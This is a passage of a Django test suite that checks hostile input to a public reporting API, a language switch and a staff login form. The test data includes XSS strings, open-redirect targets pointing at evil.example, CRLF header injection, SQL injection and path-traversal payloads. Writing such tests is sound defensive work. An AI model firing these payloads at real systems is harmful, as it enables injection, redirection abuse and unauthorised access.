            ("categories", "fisik"),
            ("categories", [["fisik"]]),
            ("categories", [{"fisik": 1}]),
            ("categories", [1, 2]),
            ("categories", {"0": "fisik"}),
            ("account", []),
            ("account", {}),
            ("account", ""),
            ("contact_method", True),
            ("contact_method", ["none"]),
            ("place", 33),
            ("place", ["33.75.01.1003"]),
            ("subject_sex", ["L"]),
            ("subject_age_band", 6),
        ]
        for field, value in cases:
            with self.subTest(field=field, value=value):
                self.assertFieldError(self.post(api_fields(**{field: value})), field)
        self.assertFieldError(self.post(api_fields(consent="true")), "consent")
        self.assertFieldError(self.post(api_fields(consent=1)), "consent")
        self.assertFalse(Report.objects.exists())

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_refused_characters_and_lone_surrogates_in_json_get_a_field_error(self):
        for char in [*REFUSED_CHARACTERS, "\ud800", "\udfff"]:
            for field in ("account", "reporter_name", "safe_hours"):
                with self.subTest(field=field, char=repr(char)):
                    self.assertFieldError(self.post(api_fields(**{field: f"a{char}b"})), field)
        self.assertFalse(Report.objects.exists())

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_a_lone_surrogate_in_the_contact_value_gets_a_field_error(self):
        response = self.post(api_fields(contact_method="email", contact_value="a@exa\ud800mple.com"))
        self.assertFieldError(response, "contact_value")

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_an_incident_date_that_is_not_text_gets_a_field_error(self):
        for value in (20240101, 2024.5, True, ["2024-01-01"], {"year": 2024}):
            self.assertFieldError(self.post(api_fields(incident_date=value)), "incident_date")

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_deeply_nested_json_gets_400(self):
        for body in ("[" * 100_000 + "]" * 100_000, '{"a":' * 100_000 + "1" + "}" * 100_000):
            self.assertEqual(self.post(body).status_code, 400)

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_a_megabyte_in_a_field_gets_a_field_error_and_an_oversized_body_gets_400(self):
        for field in ("account", "reporter_name", "safe_hours", "place", "incident_date", "reporter_relation"):
            with self.subTest(field=field):
                self.assertFieldError(self.post(api_fields(**{field: MEGABYTE})), field)
        self.assertFieldError(self.post(api_fields(categories=[MEGABYTE])), "categories")
        self.assertFieldError(self.post(api_fields(contact_method="email", contact_value=MEGABYTE)), "contact_value")
        # Over DATA_UPLOAD_MAX_MEMORY_SIZE Django refuses the body itself (RequestDataTooBig):
        # 400, as an HTML page, before the view runs.
        huge = json.dumps(api_fields(account="A" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE))
        self.assertEqual(self.post(huge).status_code, 400)
        self.assertFalse(Report.objects.exists())

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=10**6)
    def test_repeated_keys_take_the_last_value_and_unknown_keys_are_ignored(self):
        body = (
            '{"reporter_relation": "self", "categories": ["fisik"], "contact_method": "none", "consent": true,'
            f' "account": "pertama", "account": "terakhir {MARK}",'
            ' "channel": "walk_in", "queue": "puspaga", "risk": "low", "status": "closed", "unit": 1, "person": 1}'
        )
        report = report_get_by_receipt(self.post(body).json()["receipt_code"])
        self.assertEqual(report.account, f"terakhir {MARK}")
        self.assertEqual((report.channel, report.queue, report.status, report.person), ("web", "lppar", "new", None))

    @override_settings(SIGAP_RECEIPT_LOOKUPS_PER_HOUR=10**6)
    def test_hostile_receipt_codes_in_the_url_get_404_in_json(self):
        for code in [*INJECTIONS, *SQL, *UNICODE, "\x00", "A" * 10_000, "..", "%", "*"]:
            with self.subTest(code=code[:40]):
                response = self.send(f"/api/v1/public/reports/{quote(code, safe='')}", method="GET")
                self.assertEqual(response.status_code, 404)
        for raw in ("%FF%FE", "%ED%A0%80", "%C0%AF", "..%2F..%2Fstaf", "%00"):
            with self.subTest(raw=raw):
                self.assertEqual(self.send(f"/api/v1/public/reports/{raw}", method="GET").status_code, 404)

    def test_wrong_methods_get_405_with_allow(self):
        for method in ("GET", "PUT", "PATCH", "DELETE"):
            response = self.send("/api/v1/public/reports", method=method, content_type="application/json")
            self.assertEqual(response.status_code, 405)
            self.assertEqual(response["Allow"], "POST")
        for method in ("POST", "PUT", "DELETE"):
            response = self.send(
                "/api/v1/public/reports/AAAA-BBBB-CCCC-DDDD",
                json.dumps(api_fields()),
                method=method,
                content_type="application/json",
            )
            self.assertEqual(response.status_code, 405)

    @override_settings(SIGAP_PUBLIC_REPORTS_PER_HOUR=2)
    def test_the_submission_limit_holds_for_the_api(self):
        statuses = [self.post(api_fields(account=text)).status_code for text in (MEGABYTE, "sah", "sah lagi")]
        self.assertEqual(statuses, [400, 201, 429])
        self.assertEqual(self.post(api_fields(), HTTP_X_FORWARDED_FOR="198.51.100.1").status_code, 429)
        self.assertEqual(self.post(b"{").status_code, 429)  # the limit comes before any parsing


class LanguageSwitchTests(HostileInputTestCase):
    def test_the_switch_never_redirects_off_site_or_to_a_script(self):
        for target in [
            f"javascript:alert('{MARK}')",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "//evil.example/",
            "https://evil.example/",
            "/\\evil.example",
            "\\\\evil.example",
            "http:/\\evil.example",
            "/lapor/\r\nSet-Cookie: sigap=1",
            f"/lapor/<script>{MARK}</script>",
            MEGABYTE,
        ]:
            with self.subTest(target=target[:40]):
                for data, extra in [
                    ({"language": "en", "next": target}, {}),
                    ({"language": "en"}, {"HTTP_REFERER": target}),
                ]:
                    response = self.send("/bahasa/", data, **extra)
                    self.assertIn(response.status_code, (302, 204))
                    location = response.get("Location", "/")
                    # On this site: no scheme, no host, nothing a browser reads as another host.
                    self.assertEqual(urlsplit(location)[:2], ("", ""), location[:80])
                    self.assertFalse(location.startswith(("//", "/\\", "\\")), location[:80])
                    self.assertFalse(set(location) & set("\r\n<>\"' \t"), location[:80])

    def test_hostile_language_codes_set_no_language(self):
        for language in [f"<script>{MARK}</script>", "en\r\nSet-Cookie: a=b", "en\x00", MEGABYTE, "../../etc", "zz"]:
            with self.subTest(language=language[:30]):
                response = self.send("/bahasa/", {"language": language, "next": "/lapor/"})
                self.assertNotIn(settings.LANGUAGE_COOKIE_NAME, response.cookies)
        response = self.send("/bahasa/", {"language": ["<x>", "en"], "next": "/lapor/"})  # repeated: the last counts
        self.assertEqual(response.cookies[settings.LANGUAGE_COOKIE_NAME].value, "en")

    def test_a_hostile_language_cookie_or_header_falls_back_to_indonesian(self):
        for cookie, header in [
            (f"<script>{MARK}</script>", ""),
            ("en\x00", ""),
            ("x" * 10_000, ""),
            ("", f"<script>{MARK}</script>;q=abc, zz-ZZ;q=2, *;q=-1"),
            ("", "x" * 100_000),
        ]:
            with self.subTest(cookie=cookie[:20], header=header[:20]):
                self.anonymous.cookies[settings.LANGUAGE_COOKIE_NAME] = cookie
                response = self.send("/lapor/", method="GET", HTTP_ACCEPT_LANGUAGE=header)
                self.assertEqual(response.status_code, 200)
                self.assertContains(response, '<html lang="id"')
                self.assertNotContains(response, MARK)


class LoginTests(HostileInputTestCase):
    def test_hostile_usernames_and_passwords_are_refused_with_a_message(self):
        attempts = [
            *[(text[:150], text) for text in INJECTIONS + SQL + UNICODE],
            ("petugas' --", "x"),
            ("' OR '1'='1", "' OR '1'='1"),
            ("petugas\x00", PASSWORD),
            ("petugas", f"{PASSWORD}\x00"),
            (MEGABYTE, PASSWORD),
            ("petugas", MEGABYTE),
            (["x", "petugas"], ["y", "salah"]),
        ]
        for username, password in attempts:
            with self.subTest(username=str(username)[:40]):
                response = self.send("/masuk/", {"username": username, "password": password})
                self.assertEqual(response.status_code, 400)
                self.assertTrue(response.context["form"].errors)
                self.assertNotIn("_auth_user_id", self.anonymous.session)
        # Unknown names reach the access log only as a keyed hash.
        for event in AuditEvent.objects.filter(action="login_failed"):
            self.assertNotIn(MARK, json.dumps(event.changes))
        head = login_verified(Client(raise_request_exception=False), self.kepala)
        page = head.get("/staf/audit/").content.decode()
        self.assertInert(page, "/staf/audit/")
        self.assertNotIn(MARK, page)

    def test_the_lockout_holds_against_hostile_attempts(self):
        for password in (INJECTIONS + SQL)[: settings.SIGAP_LOGIN_MAX_FAILURES]:
            self.send("/masuk/", {"username": "petugas", "password": password})
        response = self.send("/masuk/", {"username": "petugas", "password": PASSWORD})
        self.assertEqual(response.status_code, 400)
        self.assertTrue(response.context["form"].has_error("__all__", "locked"))
        self.assertNotIn("_auth_user_id", self.anonymous.session)
